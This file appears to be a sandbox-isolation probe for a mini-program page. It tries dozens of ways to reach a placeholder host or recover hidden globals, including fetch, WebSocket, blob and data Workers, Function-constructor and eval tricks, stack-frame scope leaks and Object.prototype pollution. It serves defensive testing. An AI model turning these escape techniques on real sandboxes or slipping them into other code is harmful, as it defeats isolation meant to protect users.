const { run, got } = require('../../lib/probe.js')
const { search } = require('../../lib/reach.js')

const OUT = 'http://OUTSIDE'
function sloppy() {
  return this
}
const real = sloppy() || globalThis
const tool = name => got(real[name], name)
const made = (name, ...args) => {
  const Tool = real[name]
  got(Tool)
  const one = new Tool(...args)
  return new Promise((resolve, reject) => {
    one.onopen = () => resolve('GOT a connection')
    one.onerror = () => reject(new Error('closed'))
    if (one.ready) one.ready.then(() => resolve('GOT a connection'), reject)
  })
}
const text = code => `GOT ${typeof code()}`

const attempts = page => ({
  fetch: () => real.fetch(`${OUT}/fetch`).then(() => 'GOT an answer'),
  xhr: () => {
    const ask = new real.XMLHttpRequest()
    ask.open('GET', `${OUT}/xhr`, false)
    ask.send()
    return `GOT ${ask.status}`
  },
  socket: () => made('WebSocket', `ws://OUTSIDE/socket`),
  events: () => made('EventSource', `${OUT}/events`),
  transport: () => made('WebTransport', `https://OUTSIDE/transport`),
  rtc: () => tool('RTCPeerConnection'),
  beacon: () => `GOT ${real.navigator.sendBeacon(`${OUT}/beacon`, 'x')}`,
  scripts: () => `GOT ${real.importScripts(`${OUT}/scripts.js`)}`,
  scriptsOfPrototype: () =>
    `GOT ${Object.getPrototypeOf(Object.getPrototypeOf(real)).importScripts.call(real, `${OUT}/s2.js`)}`,
  fetchOfPrototype: () =>
    Object.getPrototypeOf(Object.getPrototypeOf(real))
      .fetch.call(real, `${OUT}/f2`)
      .then(() => 'GOT it'),
  dataWorker: () => got(new real.Worker('data:text/javascript,fetch("http://OUTSIDE/data-worker")')),
  blobWorker: () => got(new real.Worker(URL.createObjectURL(new Blob([`fetch('${OUT}/blob-worker')`])))),
  fontFace: () => new real.FontFace('x', `url(${OUT}/font-face)`).load().then(() => 'GOT a font'),
  caches: () => real.caches.open('x').then(() => 'GOT a cache'),
  database: () => got(real.indexedDB.open('x')),
  broadcast: () => got(new real.BroadcastChannel('plaza')),
  cookies: () => real.cookieStore.getAll().then(() => 'GOT cookies'),
  place: () => tool('location'),
  post: () => tool('postMessage'),
  eval: () => text(() => (0, eval)('this')),
  function: () => text(() => new Function('return fetch')()),
  constructor: () => text(() => sloppy.constructor('return fetch')()),
  constructors: () => text(() => [].constructor.constructor('return fetch')()),
  generator: () =>
    text(
      () =>
        Object.getPrototypeOf(function* () {})
          .constructor('yield fetch')()
          .next().value,
    ),
  asynchronous: () =>
    Object.getPrototypeOf(async function () {})
      .constructor('return fetch')()
      .then(it => got(it)),
  timer: () =>
    new Promise(done => {
      real.gotTimer = () => done('GOT code of text')
      setTimeout('gotTimer()', 1)
    }),
  // WebKit lets it compile: more to compute with, and nothing to reach.
  assembly: () => `compiles ${typeof new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))}`,
  frames: () => {
    Error.prepareStackTrace = (_, sites) => sites.map(site => site.getThis && site.getThis())
    const all = new Error('x').stack
    delete Error.prepareStackTrace
    const scope = Array.isArray(all) && all.find(one => one && one.fetch)
    return got(scope || null)
  },
  listener: () =>
    new Promise((done, fail) => {
      EventTarget.prototype.addEventListener.call(real, 'message', event => {
        const { ports, source } = event
        if ((ports && ports.length > 0) || source) done('GOT a port')
        else fail(new Error('no port'))
      })
      setTimeout(fail, 1200, new Error('no port'))
    }),
  // These it may well reach: what they can do is what the other pages try.
  hands: () => {
    const found = search([page, page._$, wx, getApp(), getCurrentPages(), real, Page, Component, Behavior])
    return `reached ${Object.keys(found).join(' ') || 'nothing'}`
  },
  pollution: () => {
    Object.prototype.src = `${OUT}/pollution-src`
    Object.prototype.background = `url(${OUT}/pollution-background)`
    Object.prototype.api = 'login'
    return new Promise(done =>
      setTimeout(() => {
        for (const name of ['src', 'background', 'api']) delete Object.prototype[name]
        done('nothing came of it')
      }, 300),
    )
  },
})

Page({
  data: { said: '' },
  onReady() {
    this.setData({ said: 'here' })
    run(attempts(this))
  },
})
